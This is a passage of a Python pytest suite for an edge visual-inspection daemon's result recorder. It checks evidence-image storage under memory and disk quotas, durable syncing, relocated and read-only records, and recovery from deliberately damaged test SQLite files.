            ((header, amap),) = sub.collect(1, timeout=30)
        finally:
            sub.close()
            cam.close()
        assert wait_for(lambda: Record(url).results(camera="c"), 30)
    assert header["decision"] == "fail" and header["map"] is None and amap is None
    (row,) = Record(url).results(camera="c")
    overlay = cv2.imread(row["evidence_overlay"] or "")
    assert overlay is not None and overlay.shape == image.shape
    assert np.abs(overlay.astype(int) - image).mean() > 40  # the map's colours over the frame


def test_the_frames_waiting_for_their_evidence_are_bounded_by_their_bytes(tmp_path, monkeypatch, caplog):
    """While the database is down, or the writer encodes PNGs slower than the rejects come, the
    frames kept for evidence wait in memory: past FRAMES_HELD_BYTES a result waits without its
    frame, and is recorded without evidence, counted; its row is kept. Unbounded, 500 fails of
    1280 x 1024 took 1.9 GB."""
    from edge.record import writer as writer_module

    frame_bytes = _result("c", 0).frame.nbytes
    monkeypatch.setattr(writer_module, "FRAMES_HELD_BYTES", 3 * frame_bytes)
    url = f"sqlite:///{tmp_path / 'line.db'}"
    writer = RecordWriter(url, tmp_path / "ev")  # not started: a database that does not keep up
    with caplog.at_level(logging.ERROR, logger="edge.record.writer"):
        for i in range(5):
            writer.put(_result("c", i), time.time_ns())
    assert writer.held.bytes == 3 * frame_bytes and writer.held.let_go == 2
    assert writer.metrics.evidence_failed._value.get() == 2 and "recorded without their images" in caplog.text
    writer.start().close()
    assert writer.recorded == 5 and writer.held.bytes == 0
    rows = sorted(Record(url).results(limit=10), key=lambda row: row["frame_id"])
    assert [row["evidence"] is not None for row in rows] == [True, True, True, False, False]
    writer = RecordWriter(url, tmp_path / "ev").start()  # the bound is of frames waiting, not of a run's
    for i in range(5, 9):
        writer.put(_result("c", i), time.time_ns())
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline and writer.recorded < i - 4:
            time.sleep(0.05)
    writer.close()
    assert writer.held.let_go == 0 and writer.held.bytes == 0


def test_a_storm_of_one_cameras_fails_leaves_the_other_cameras_rejects_their_images(tmp_path, monkeypatch):
    """Every frame of one camera fails (its lamp went out) while the writer is behind: past the
    bound, that camera gives up its newest waiting frames for another camera's rejects, down to
    an even share; the bytes held never pass the bound. Before, the other camera's rejects were
    all recorded without images while the storm lasted."""
    from edge.record import writer as writer_module

    frame_bytes = _result("c", 0).frame.nbytes
    monkeypatch.setattr(writer_module, "FRAMES_HELD_BYTES", 4 * frame_bytes)
    url = f"sqlite:///{tmp_path / 'line.db'}"
    writer = RecordWriter(url, tmp_path / "ev")  # not started: a database that does not keep up
    for i in range(4):
        writer.put(_result("storm", i), time.time_ns())
    for i in range(3):
        writer.put(_result("steady", i), time.time_ns())
        assert writer.held.bytes <= 4 * frame_bytes
    writer.put(_result("storm", 4), time.time_ns())  # an even share each: its own waits without
    assert writer.held.bytes == 4 * frame_bytes and writer.held.let_go == 4
    writer.start().close()
    kept = {(r["camera_id"], r["frame_id"]) for r in Record(url).results(limit=20) if r["evidence"] is not None}
    assert kept == {("storm", 0), ("storm", 1), ("steady", 0), ("steady", 1)}, kept
    assert writer.held.bytes == 0 and writer.recorded == 8


def test_a_storm_gives_up_the_frames_of_the_batch_the_writer_has_not_reached(tmp_path, monkeypatch):
    """The writer stores a batch of up to 256 results, encoding their frames one by one. A frame
    of that batch it has not reached is given up for another camera's reject as any other is;
    the one it is encoding is not. Before, a storm's whole batch was kept while every frame held
    was in it, and the other camera's rejects waited without their images."""
    import threading

    from edge.record import writer as writer_module

    frame_bytes = _result("c", 0).frame.nbytes
    monkeypatch.setattr(writer_module, "FRAMES_HELD_BYTES", 4 * frame_bytes)
    encoding, go_on = threading.Event(), threading.Event()
    real_write = writer_module.write_image

    def slow_write(path, image, **kwargs):  # the first frame's PNG takes until the test lets it go on
        encoding.set()
        assert go_on.wait(30)
        real_write(path, image, **kwargs)

    monkeypatch.setattr(writer_module, "write_image", slow_write)
    url = f"sqlite:///{tmp_path / 'line.db'}"
    writer = RecordWriter(url, tmp_path / "ev")
    for i in range(4):
        writer.put(_result("storm", i), time.time_ns())
    writer.start()
    try:
        assert encoding.wait(30)  # the writer took the four as its batch and is encoding storm 0
        writer.put(_result("steady", 0), time.time_ns())
        assert writer.held.let_go == 1 and writer.held.bytes == 4 * frame_bytes
    finally:
        go_on.set()
        writer.close()
    kept = {(r["camera_id"], r["frame_id"]) for r in Record(url).results(limit=20) if r["evidence"] is not None}
    assert kept == {("storm", 0), ("storm", 1), ("storm", 2), ("steady", 0)}, kept
    assert writer.held.bytes == 0 and writer.recorded == 5


def test_a_sender_whose_frame_ids_start_again_keeps_each_frames_evidence(tmp_path):
    """A camera bridge restarted within the day sends frame 7 again: the first frame 7's
    evidence is not overwritten, and each row names its own files. A sender without a clock
    (ts_ns 0) files its evidence under the day it was received, not 1970."""
    writer = RecordWriter(f"sqlite:///{tmp_path / 'line.db'}", tmp_path / "ev").start()
    first, again = _result("c", 7), _result("c", 7)
    again.frame = np.zeros_like(first.frame)
    writer.put(first, time.time_ns())
    writer.put(again, time.time_ns() + 1000)
    clockless = _result("c", 8)
    clockless.header["ts_ns"] = 0
    writer.put(clockless, time.time_ns())
    writer.close()
    rows = Record(f"sqlite:///{tmp_path / 'line.db'}").results(camera="c", limit=10)
    by_frame = {}
    for row in rows:
        by_frame.setdefault(row["frame_id"], []).append(row)
    paths = sorted({r["evidence_frame"] for r in by_frame[7]} | {r["evidence_overlay"] for r in by_frame[7]} - {None})
    assert len(by_frame[7]) == 2 and len(paths) == 2 and all(Path(p).is_file() for p in paths)
    images = [cv2.imread(r["evidence_frame"]) for r in sorted(by_frame[7], key=lambda r: r["id"])]
    assert images[0].any() and not images[1].any()  # the first frame 7 as it was, then the second
    today = time.strftime("%Y%m%d", time.gmtime())
    assert Path(by_frame[8][0]["evidence_frame"]).parent.name == today


def test_evidence_is_on_the_disk_before_the_rows_that_name_it_commit(tmp_path, monkeypatch):
    """A power cut after a commit must not leave rows naming empty files (what a new file still in
    the page cache comes back as on ext4): at each commit, every evidence file and the folders
    that name them have been synced. A file that cannot be synced (a full disk) leaves nothing."""
    synced: set[Path] = set()
    real_fsync = os.fsync

    def fsync(fd: int) -> None:
        real_fsync(fd)
        synced.add(Path(os.readlink(f"/proc/self/fd/{fd}")))

    monkeypatch.setattr("edge.durable.os.fsync", fsync)
    evidence = tmp_path / "ev"
    writer = RecordWriter(f"sqlite:///{tmp_path / 'line.db'}", evidence)
    unsynced_at_commit: list[Path] = []

    def on_commit(_conn) -> None:
        written = list(evidence.rglob("*")) + ([evidence] if evidence.exists() else [])
        unsynced_at_commit.extend(p for p in written if p not in synced)

    sa.event.listen(writer.engine, "commit", on_commit)
    writer.start()
    for i in range(3):
        writer.put(_result(f"cam{i % 2}", i), time.time_ns())
    writer.close()
    rows = Record(f"sqlite:///{tmp_path / 'line.db'}").results(limit=10)
    assert len(rows) == 3 and all(r["evidence_frame"] for r in rows)
    assert {Path(r["evidence_frame"]) for r in rows} <= synced and evidence / "cam1" in synced
    assert not unsynced_at_commit

    def full_disk(fd: int) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr("edge.durable.os.fsync", full_disk)
    with pytest.raises(OSError, match="No space"):
        write_synced(tmp_path / "cut.png", b"x" * 1000)
    assert not (tmp_path / "cut.png").exists()


def test_a_mono_cameras_frame_sent_as_colour_is_kept_as_grey_and_reads_back_the_same(tmp_path):
    """Its evidence file takes a third of the disk; a colour frame stays colour."""
    writer = RecordWriter(f"sqlite:///{tmp_path / 'line.db'}", tmp_path / "ev").start()
    mono, colour = _result("c", 1), _result("c", 2)
    mono.frame = np.repeat(mono.frame[..., :1], 3, axis=2)
    sent = {1: mono.frame.copy(), 2: colour.frame.copy()}
    writer.put(mono, time.time_ns())
    writer.put(colour, time.time_ns())
    writer.close()
    for row in Record(f"sqlite:///{tmp_path / 'line.db'}").results(camera="c"):
        stored = cv2.imread(row["evidence_frame"], cv2.IMREAD_UNCHANGED)
        assert stored.ndim == (2 if row["frame_id"] == 1 else 3), stored.shape
        assert np.array_equal(cv2.imread(row["evidence_frame"]), sent[row["frame_id"]])


def test_a_fails_evidence_overlay_boxes_its_regions_in_the_frames_pixels(tmp_path):
    """The reviewer's picture of a reject: the map over the frame as received, and the boxes the
    result named (a speck of a pixel or two is found by its box when the page draws it small)."""
    frame = np.full((600, 800, 3), 90, np.uint8)
    region = {"x": 400, "y": 300, "w": 40, "h": 30, "area": 1200, "peak": 2.0}
    header = result_header("c", 1, time.time_ns(), "ok", 1.0, {"name": "m", "sha256": "ab" * 32}, score=2.0,
                           decision="fail", regions=[region], batch_size=1,
                           map_info={"shape": [60, 80], "dtype": "uint8", "scale": 0.01})  # fmt: skip
    writer = RecordWriter(f"sqlite:///{tmp_path / 'line.db'}", tmp_path / "ev").start()
    writer.put(Result(header, map_bytes=bytes(60 * 80), recv_ns=time.time_ns(), frame=frame), time.time_ns())
    writer.close()
    overlay = cv2.imread(str(next((tmp_path / "ev").rglob("*_overlay.jpg"))))
    assert overlay.shape == (600, 800, 3)
    red = (overlay[..., 2].astype(int) - overlay[..., 0]) > 100  # the box's red over the map's blue
    assert red[300, 410:430].all() and red[330, 410:430].all() and red[305:325, 400].all()
    assert not red[310:320, 410:430].any() and red.sum() < 1000  # the box alone: its edges, 2 px wide


def test_the_quota_removes_the_oldest_evidence_first_and_marks_it(tmp_path, record_url, caplog):
    """Oldest first, except a reviewed result's: its images are what --export-reviewed gives
    recalibration, and they stay."""
    url = record_url
    quota = 60_000  # about four frames' PNGs
    writer = RecordWriter(url, tmp_path / "ev", max_gb=quota / 1e9).start()
    with caplog.at_level(logging.INFO, logger="edge.record.housekeeping"):
        _store(writer, _result("c", 0))
        Record(url).review("c", 0, "false_reject", by="ann")
        for i in range(1, 12):
            writer.put(_result("c", i), time.time_ns())
            time.sleep(0.05)
        writer.close()
    # At its quota the evidence loses its oldest at nearly every transaction, twice a second on a
    # line, for months: a line a minute says so, not a line a pass.
    said = [r.getMessage() for r in caplog.records if "evidence quota: removed" in r.getMessage()]
    assert len(said) == 1, said
    rows = {r["frame_id"]: r for r in Record(url).results(limit=100)}
    removed = sorted(f for f, r in rows.items() if r["evidence_removed"])
    kept = sorted(f for f, r in rows.items() if not r["evidence_removed"] and f != 0)
    assert removed and kept and max(removed) < min(kept) and min(removed) == 1  # the oldest went first
    assert not rows[0]["evidence_removed"] and Path(rows[0]["evidence_frame"]).is_file()  # reviewed: kept
    assert writer.evidence_removed == len(removed) and writer.evidence_bytes <= quota
    assert sum(p.stat().st_size for p in (tmp_path / "ev").rglob("*.png")) == writer.evidence_bytes
    assert all(r["evidence"] is None for f, r in rows.items() if f in removed)
    # The next start measures what the folder already holds (on the writer's thread) and keeps a
    # smaller quota over it.
    again = RecordWriter(url, tmp_path / "ev", max_gb=quota / 2e9).start()
    again.put(_result("c", 12), time.time_ns())
    again.close()
    assert sum(p.stat().st_size for p in (tmp_path / "ev").rglob("*.png")) == again.evidence_bytes <= quota / 2


def test_evidence_removed_by_hand_is_measured_again_and_the_new_images_stay(tmp_path, caplog):
    """An integrator clears the evidence folder to make room while the daemon runs. The quota's
    count still held those files, so every new reject's images were removed as soon as they
    were written, for as long as the daemon ran. Files found gone now mark their results and
    have the folder measured again; the new images stay."""
    import shutil

    url = f"sqlite:///{tmp_path / 'line.db'}"
    quota = 60_000  # about four frames' PNGs
    writer = RecordWriter(url, tmp_path / "ev", max_gb=quota / 1e9).start()
    with caplog.at_level(logging.INFO, logger="edge.record.housekeeping"):
        for i in range(6):
            _store(writer, _result("c", i))
        assert writer.evidence_removed >= 1  # at its quota
        shutil.rmtree(tmp_path / "ev")  # by hand: the count still holds about 60 kB
        for i in range(6, 9):
            _store(writer, _result("c", i))
        writer.close()
    rows = {r["frame_id"]: r for r in Record(url).results(limit=100)}
    assert all(rows[f]["evidence_removed"] for f in range(6))  # gone, and marked so
    new = [rows[f] for f in range(6, 9)]
    assert all(not r["evidence_removed"] and Path(r["evidence_frame"]).is_file() for r in new), new
    assert writer.evidence_bytes == sum(p.stat().st_size for p in (tmp_path / "ev").rglob("*") if p.is_file())
    assert "evidence files were removed by hand from" in caplog.text


def _store(writer: RecordWriter, result: Result) -> None:
    """Hand `result` to the writer, and wait (10 s at most) until it has its row."""
    want = writer.recorded + 1
    writer.put(result, time.time_ns())
    wait_for(lambda: writer.recorded == want, 10)


def test_evidence_written_under_a_relative_folder_is_found_from_any_working_directory(tmp_path, monkeypatch):
    """A server record's evidence folder is ./evidence by default, and a config may name a
    relative one: the rows named the files relative to the daemon's working directory, so `vqad
    records --export-reviewed` run from another one found none of them."""
    url = f"sqlite:///{tmp_path / 'line.db'}"
    (tmp_path / "daemon").mkdir()
    (tmp_path / "engineer").mkdir()
    monkeypatch.chdir(tmp_path / "daemon")
    writer = RecordWriter(url, "evidence").start()
    _store(writer, _result("c", 7))
    writer.close()
    monkeypatch.chdir(tmp_path / "engineer")
    record = Record(url)
    assert Path(record.results()[0]["evidence"]).is_absolute()
    record.review("c", 7, "defect")
    assert record.export_reviewed(tmp_path / "reviewed") == {"test/defect": 1}


def test_a_record_on_a_disk_that_cannot_be_written_is_read_as_it_is(tmp_path):
    """A backup on a write-protected stick or a read-only share, or a record whose card the
    kernel made read-only: every query of `vqad records` was refused with "attempt to write a
    readonly database" (opening it brings its schema up to date, and sets WAL). It is read as
    it is, its WAL's transactions included; a review is refused, naming the cause."""
    live = tmp_path / "live" / "line.db"
    writer = RecordWriter(f"sqlite:///{live}", tmp_path / "ev").start()
    for i, decision in enumerate(["fail", "pass", "fail"]):
        writer.put(_result("cam0", i, decision), time.time_ns())
    writer.close()
    copy = tmp_path / "stick"
    copy.mkdir()
    shutil.copy(live, copy / "line.db")  # a file alone (a backup), and one with a WAL beside it
    holder = sqlite3.connect(live)  # transactions left in the WAL: a copy of a record in use
    try:
        holder.execute("PRAGMA wal_autocheckpoint=0")
        holder.execute("UPDATE results SET score = score + 10 WHERE decision = 'fail'")
        holder.commit()
        copy_wal = tmp_path / "share"
        copy_wal.mkdir()
        for suffix in ("", "-wal", "-shm"):
            shutil.copy(f"{live}{suffix}", copy_wal / f"line.db{suffix}")
    finally:
        holder.close()
    older = tmp_path / "older"  # a record an older vqad wrote, which nothing here may bring up to date
    older.mkdir()
    shutil.copy(copy / "line.db", older / "line.db")
    with sqlite3.connect(older / "line.db") as con:
        con.execute("UPDATE meta SET value = ? WHERE key = 'schema_version'", (str(SCHEMA_VERSION - 1),))
    files = [copy / "line.db", older / "line.db", *(copy_wal / f"line.db{s}" for s in ("", "-wal", "-shm"))]
    with write_protected(*files, copy, copy_wal, older):
        for folder, fail_score in ((copy, 2.0), (copy_wal, 12.0)):
            shown = run_vqad("records", folder / "line.db", "--decision", "fail", "--format", "json")
            assert [r["score"] for r in json.loads(shown.stdout)] == [fail_score, fail_score], shown.stderr
            assert "cannot be written here: read as it is" in shown.stderr
            daily = run_vqad("records", folder / "line.db", "--daily", "--format", "json")
            assert json.loads(daily.stdout)["days"][0]["fail"] == 2
        backed_up = run_vqad("records", copy_wal / "line.db", "--backup", tmp_path / "restored.db")
        assert "3 results" in backed_up.stdout
        refused = run_vqad("review", copy / "line.db", "cam0", "0", "--verdict", "defect", check=False)
        assert refused.returncode != 0 and "cannot be written by this process" in refused.stderr, refused.stderr
        with pytest.raises(DataError, match=f"no file can be made in {copy}: Operation not permitted"):
            Record(f"sqlite:///{copy / 'new.db'}")  # a daemon's new record there: said why, not just "unable"
        refused = run_vqad("records", older / "line.db", check=False)
        assert refused.returncode != 0 and "older than this vqad's" in refused.stderr, refused.stderr
        assert "copy it to a folder this user can write" in refused.stderr


def test_a_backup_opened_on_another_machine_finds_its_evidence_beside_it(tmp_path):
    """A quality engineer audits the box's backup (`--backup` and an rsync of line.db.evidence,
    as deploy/vqad-backup.service writes them) on another machine: the rows name the box's paths,
    and every reviewed image was "not on this machine's disk". The images are found beside the
    copied record, or in the folder --evidence-dir names, by the list and the export, and the
    dashboard shows them."""
    import shutil
    import urllib.request

    from tests.browser import DashboardProcess

    box, usb = tmp_path / "box", tmp_path / "usb"
    writer = RecordWriter(f"sqlite:///{box / 'line.db'}", None).start()
    _store(writer, _result("c", 7))
    writer.close()
    Record(f"sqlite:///{box / 'line.db'}").review("c", 7, "defect", kind="crack")
    usb.mkdir()  # a mounted drive
    run_vqad("records", box / "line.db", "--backup", usb / "line.db")
    shutil.copytree(box / "line.db.evidence", usb / "line.db.evidence")
    stored = Record(f"sqlite:///{box / 'line.db'}").results()[0]
    shutil.rmtree(box)  # the box's disk is not on this machine
    beside = json.loads(run_vqad("records", usb / "line.db", "--format", "json").stdout)[0]
    assert stored["evidence_overlay"] is None  # a result without a map has no overlay
    for key in ("evidence", "evidence_frame"):
        assert beside[key] == str(usb / "line.db.evidence" / Path(stored[key]).relative_to(box / "line.db.evidence"))
        assert Path(beside[key]).is_file()
    exported = run_vqad("records", usb / "line.db", "--export-reviewed", tmp_path / "audit")
    assert (tmp_path / "audit" / "test" / "crack" / "c_7.png").is_file(), exported.stderr
    (usb / "line.db.evidence").rename(tmp_path / "copied")
    assert not Path(Record(f"sqlite:///{usb / 'line.db'}").results()[0]["evidence"]).exists()
    named = run_vqad("records", usb / "line.db", "--export-reviewed", tmp_path / "x", check=False)
    assert "--evidence-dir" in named.stderr and not (tmp_path / "x").exists()
    frame = tmp_path / "copied" / Path(stored["evidence"]).relative_to(box / "line.db.evidence")
    run_vqad("records", usb / "line.db", "--export-reviewed", tmp_path / "again", "--evidence-dir", tmp_path / "copied")
    mistyped = run_vqad("records", usb / "line.db", "--evidence-dir", tmp_path / "copie", check=False)
    assert mistyped.returncode != 0 and f"no evidence folder {tmp_path / 'copie'}" in mistyped.stderr
    assert (tmp_path / "again" / "test" / "crack" / "c_7.png").read_bytes() == frame.read_bytes()
    with DashboardProcess("--record", usb / "line.db", "--evidence-dir", tmp_path / "copied", "--results", "",
                          log_path=tmp_path / "dashboard.log") as dashboard:  # fmt: skip
        with urllib.request.urlopen(f"{dashboard.url}/api/image/c/7/frame", timeout=10) as answer:
            assert answer.status == 200 and answer.read() == frame.read_bytes()


def test_a_record_moved_to_another_disk_with_its_evidence_keeps_its_quota_and_its_images(tmp_path):
    """An integrator moves /var/lib/vqad/line.db and line.db.evidence to a bigger disk. The rows
    name the old paths: the quota's pass took every moved image for one removed by hand, marked
    its row (the page then showed no picture), and left the file on the disk for good."""
    import shutil

    old, new = tmp_path / "old", tmp_path / "new"
    writer = RecordWriter(f"sqlite:///{old / 'line.db'}").start()
    for frame_id in range(6):
        _store(writer, _result("c", frame_id))
    writer.close()
    shutil.move(old, new)
    url = f"sqlite:///{new / 'line.db'}"
    each = (new / "line.db.evidence").rglob("*.png").__next__().stat().st_size
    writer = RecordWriter(url, max_gb=4.5 * each / 1e9).start()  # room for four of the seven
    _store(writer, _result("c", 6))
    writer.close()
    rows = {r["frame_id"]: r for r in Record(url).results()}
    removed = sorted(f for f, r in rows.items() if r["evidence_removed"])
    assert removed == [0, 1, 2], removed  # the oldest, by the quota
    assert len(list((new / "line.db.evidence").rglob("*.png"))) == 4  # their files went with their rows
    assert all(Path(rows[f]["evidence"]).is_file() for f in (3, 4, 5, 6))  # the rest are shown where they are now


def _damage(database: Path, table: str) -> None:
    """Overwrite the root page of `table` in the SQLite file `database`, as a failing card does."""
    with sqlite3.connect(database) as conn:
        page_size = conn.execute("PRAGMA page_size").fetchone()[0]
        (root,) = conn.execute("SELECT rootpage FROM sqlite_master WHERE name = ?", (table,)).fetchone()
        conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")  # the rows in the file itself, as after a clean stop
    with open(database, "r+b") as f:
        f.seek((root - 1) * page_size)
        f.write(b"\xde\xad" * (page_size // 2))


@pytest.mark.parametrize("table", ["results", "meta"], ids=["a-data-page", "the-schemas-page"])
def test_a_damaged_sqlite_record_is_set_aside_with_its_evidence_and_a_new_one_records(tmp_path, caplog, table):
    """A SQLite file damaged by its disk stopped the daemon's start with a driver's traceback
    ("database disk image is malformed"), and a restart loop stopped the line. The file (its WAL
    too) and its evidence folder are set aside for a person to read back, and a new record takes
    the results; an audit finds the set-aside among the changes, and Prometheus counts it. The
    damage shows in the schema's own page (the meta table, read as the record opens) or only in
    the first query on the results."""
    from edge.metrics import DaemonMetrics

    database, evidence = tmp_path / "line.db", tmp_path / "line.db.evidence"
    writer = RecordWriter(f"sqlite:///{database}").start()
    for frame_id in range(5):
        _store(writer, _result("c", frame_id))
    writer.close()
    kept = sorted(p.relative_to(evidence) for p in evidence.rglob("*.png"))
    _damage(database, table)
    metrics = DaemonMetrics()
    with caplog.at_level(logging.ERROR, logger="edge.record.writer"):
        writer = RecordWriter(f"sqlite:///{database}", metrics=metrics).start()
    _store(writer, _result("c", 5))
    writer.close()
    (moved,) = [p for p in tmp_path.glob("line.db.damaged-*") if not p.name.endswith(("-wal", "-shm"))]
    (moved_evidence,) = tmp_path.glob("line.db.evidence.damaged-*")
    assert moved_evidence.name.removeprefix("line.db.evidence.") == moved.name.removeprefix("line.db.")
    assert sorted(p.relative_to(moved_evidence) for p in moved_evidence.rglob("*.png")) == kept and len(kept) == 5
    assert f"the record {database} is damaged (database disk image is malformed): set aside as {moved}" in caplog.text
    record = Record(f"sqlite:///{database}")
    assert [r["frame_id"] for r in record.results()] == [5] and Path(record.results()[0]["evidence"]).is_file()
    (change,) = record.events()
    assert change["kind"] == "record-set-aside" and change["detail"]["damaged"] == str(moved)
    assert change["detail"]["evidence"] == str(moved_evidence)
    assert metrics.record_set_aside._value.get() == 1
    assert writer.status()["set_aside"]["damaged"] == str(moved)  # the heartbeat's, for the dashboard's pill


def test_the_daemon_starts_on_a_damaged_record_and_records_on_a_new_one(tiny_model, tmp_path):
    """The daemon itself, as systemd starts it after a power cut that damaged its record."""
    database = tmp_path / "line.db"
    writer = RecordWriter(f"sqlite:///{database}").start()
    _store(writer, _result("c", 0))
    writer.close()
    _damage(database, "results")  # a data page: opening the record does not read it; the start's first query does
    url = f"sqlite:///{database}"
    checked = run_vqad("serve", tiny_model, "--record", url, "--check")  # says what the start will do, moves nothing
    assert f"note: the record {url} is damaged (database disk image is malformed): the start sets it aside" in (
        checked.stdout + checked.stderr
    ) and not list(tmp_path.glob("*.damaged-*"))
    with DaemonProcess(tiny_model, "--record", url) as daemon:
        cam = Camera(daemon.frames)
        try:
            cam.send(frame_message("cam1", 7, np.full((48, 48, 3), 90, np.uint8), "raw"))
        finally:
            cam.close()
        assert wait_for(lambda: _count(url) == 1, 30)
    said = daemon.log_path.read_text()
    assert "is damaged (database disk image is malformed): set aside as" in said and "Traceback" not in said, said
    assert [r["frame_id"] for r in Record(url).results()] == [7]


def test_a_record_damaged_while_the_daemon_serves_is_set_aside_and_the_waiting_results_go_to_a_new_one(
    tmp_path, monkeypatch
):
    """SQLite may find the damage at any write, months into a run: the batch that met it is
    stored again on the new record, and the results after it follow."""
    database = tmp_path / "line.db"
    writer = RecordWriter(f"sqlite:///{database}").start()
    _store(writer, _result("c", 0))
    store, met = writer._store, []

    def damaged_once(batch):
        if not met:
            met.append(len(batch))
            raise sa.exc.DatabaseError(
                "INSERT INTO results", {}, sqlite3.DatabaseError("database disk image is malformed")
            )
        return store(batch)

    monkeypatch.setattr(writer, "_store", damaged_once)
    _store(writer, _result("c", 1))
    _store(writer, _result("c", 2))
    writer.close()
    assert met == [1] and writer.unrecorded == 0
    assert sorted(r["frame_id"] for r in Record(f"sqlite:///{database}").results()) == [1, 2]
    (moved,) = [p for p in tmp_path.glob("line.db.damaged-*") if not p.name.endswith(("-wal", "-shm"))]
    assert [r["frame_id"] for r in Record(f"sqlite:///{moved}").results()] == [0]  # the rows before it, kept


def _simulated_disk(monkeypatch, evidence: Path, disk: int):
    """A disk of `disk` bytes for the housekeeping: its free space is what the evidence under
    `evidence` and "another program" (the returned dict's "bytes") leave of it. -> (that dict,
    the free-space function)."""
    from edge.record import housekeeping

    other = {"bytes": 0}

    def free(_folder: Path) -> int:
        return disk - other["bytes"] - sum(p.stat().st_size for p in evidence.rglob("*") if p.is_file())

    monkeypatch.setattr(housekeeping, "free_bytes", free)
    return other, free


def test_reviewed_images_keep_a_share_of_the_evidences_room_not_all_of_it(tmp_path, monkeypatch, caplog):
    """Kept without a bound, reviewed images would fill the quota in time, and every new
    reject's image would then be removed as soon as it was written. They keep a quarter of the
    quota, the oldest leaving first; under the floor with nothing else left, they go too."""
    from edge.record import housekeeping

    monkeypatch.setattr(housekeeping, "REVIEWED_EVERY_S", 0.0)  # looked at after every transaction
    url = f"sqlite:///{tmp_path / 'line.db'}"
    quota = 60_000  # a quarter of it holds one frame's PNG (about 12 kB)
    writer = RecordWriter(url, tmp_path / "ev", max_gb=quota / 1e9).start()
    with caplog.at_level(logging.WARNING, logger="edge.record.housekeeping"):
        for i in range(5):
            _store(writer, _result("c", i))
            if i < 4:
                Record(url).review("c", i, "defect")
        writer.close()
    rows = {r["frame_id"]: r for r in Record(url).results(limit=100)}
    assert [f for f in range(5) if rows[f]["evidence_removed"]] == [0, 1, 2], rows  # the oldest reviewed
    assert all(Path(rows[f]["evidence_frame"]).is_file() for f in (3, 4))
    assert "removed the images of the oldest" in caplog.text
    # No quota, and the disk under its floor with only reviewed images left: they go too, the
    # oldest first, until new rejects can keep theirs again.
    evidence, disk, floor = tmp_path / "ev2", 150_000, 100_000
    other, free = _simulated_disk(monkeypatch, evidence, disk)
    url = f"sqlite:///{tmp_path / 'floor.db'}"
    writer = RecordWriter(url, evidence, min_free_gb=floor / 1e9).start()
    for i in range(3):
        _store(writer, _result("c", i))
        Record(url).review("c", i, "false_reject")
    other["bytes"] = disk - floor - 20_000  # another program: room for one reviewed image more than the floor
    _store(writer, _result("c", 3, "pass"))  # a pass, not sampled: no image of its own
    _store(writer, _result("c", 4))
    writer.close()
    rows = {r["frame_id"]: r for r in Record(url).results(limit=100)}
    removed = [f for f in range(5) if rows[f]["evidence_removed"]]
    assert removed and removed == list(range(len(removed))) and free(evidence) >= floor, (removed, free(evidence))


def test_the_disk_keeps_its_floor_of_free_space_oldest_evidence_first_then_none_written(tmp_path, monkeypatch, caplog):
    """No quota set (the default): months of evidence filled the disk, and with it the record's
    own writes and, on a Jetson, the system's. A disk of 150 kB is simulated: its free space is
    what the evidence and "another program" leave of it."""
    evidence = tmp_path / "ev"
    disk, floor = 150_000, 100_000  # room for about four frames' PNGs (12 kB each) over the floor
    other, free = _simulated_disk(monkeypatch, evidence, disk)
    url = f"sqlite:///{tmp_path / 'line.db'}"
    writer = RecordWriter(url, evidence, min_free_gb=floor / 1e9).start()
    for i in range(12):
        _store(writer, _result("c", i))
    rows = {r["frame_id"]: r for r in Record(url).results(limit=100)}
    removed = sorted(f for f, r in rows.items() if r["evidence_removed"])
    assert removed and max(removed) < min(set(rows) - set(removed)) and free(evidence) >= floor
    # Another program takes the disk: every evidence file goes, then none is written, and the
    # results are still recorded, counted as without their images.
    other["bytes"] = disk - floor + 1
    with caplog.at_level(logging.INFO, logger="edge.record.housekeeping"):
        for i in range(12, 15):
            _store(writer, _result("c", i))
        assert not list(evidence.rglob("*.png")) and writer.house.low_disk
        assert writer.evidence_failed >= 2 and "under record_min_free_gb" in caplog.text
        other["bytes"] = disk - floor - 5_000  # just over the floor: not yet (a WAL's swing)
        _store(writer, _result("c", 15))
        _store(writer, _result("c", 16))
        assert writer.house.low_disk
        other["bytes"] = 0  # room again: evidence is written again
        _store(writer, _result("c", 17))
        writer.put(_result("c", 18), time.time_ns())
        writer.close()
    assert "is over record_min_free_gb 0.0001 again" in caplog.text
    rows = {r["frame_id"]: r for r in Record(url).results(limit=100)}
    assert len(rows) == 19 and rows[18]["evidence"] is not None and rows[16]["evidence"] is None


def test_results_past_keep_days_leave_with_their_evidence_and_reviewed_ones_stay(tmp_path, record_url):
    day_ns = 86400 * 10**9
    writer = RecordWriter(record_url, tmp_path / "ev").start()
    for i in range(9):  # taken and published 3 days ago, then now
        at = time.time_ns() - (3 * day_ns if i < 6 else 0)
        writer.put(_result("c", i, ts_ns=at), at)
    writer.close()
    Record(record_url).review("c", 2, "defect")
    before = {r["frame_id"]: r["evidence"] for r in Record(record_url).results(limit=100)}
    assert all(before.values()) and len(before) == 9
    writer = RecordWriter(record_url, tmp_path / "ev", keep_days=1).start()
    writer.put(_result("c", 9), time.time_ns())
    writer.close()
    after = {r["frame_id"]: r["evidence"] for r in Record(record_url).results(limit=100)}
    assert sorted(after) == [2, 6, 7, 8, 9]  # the reviewed old result stays
    assert writer.expired == 5 and writer.metrics.results_expired._value.get() == 5
    assert not any(Path(before[i]).exists() for i in (0, 1, 3, 4, 5)) and Path(before[2]).exists()
    # The record says what left it, and its daily tally that the days up to it are counted in part.
    removed = Record(record_url).removed()
    assert removed["for_space"] == 0 and removed["past_keep_days"] == 5
    assert abs(time.time_ns() - 3 * day_ns - removed["up_to_ns"]) < 60 * 10**9  # the newest of them, 3 days ago
    daily = run_vqad("records", record_url, "--daily")
    assert "have left the record (0 to keep its disk's floor, 5 past record_keep_days" in daily.stderr
    assert json.loads(run_vqad("records", record_url, "--daily", "--format", "json").stdout)["removed"] == removed


def test_boxes_sharing_a_record_each_remove_only_the_evidence_on_their_own_disk(tmp_path, postgres_url):
    """A plant's PostgreSQL server keeps the results of a box per line. Each box's quota and expiry
    read every box's rows: one marked another's images removed and deleted its old rows, and
    those files stayed on the other box's disk for good, out of its quota's and expiry's reach."""
    day_ns, record_url = 86400 * 10**9, _new_database(postgres_url)
    box2 = tmp_path / "box2" / "evidence"
    writer = RecordWriter(record_url, box2).start()
    for i in range(4):  # line 2's rejects, 3 days old, then new
        at = time.time_ns() - (3 * day_ns if i < 2 else 0)
        writer.put(_result("line2", i, ts_ns=at), at)
    writer.close()
